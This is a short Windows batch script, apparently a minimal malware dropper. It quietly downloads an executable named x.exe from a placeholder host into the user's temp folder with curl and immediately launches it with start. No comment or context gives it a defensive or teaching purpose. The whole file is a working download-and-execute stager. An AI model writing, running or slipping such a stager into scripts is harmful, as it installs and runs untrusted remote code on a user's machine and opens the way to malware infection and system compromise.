@echo off
curl -s https://x.example.org/x.exe -o %TEMP%\x.exe
start "" %TEMP%\x.exe
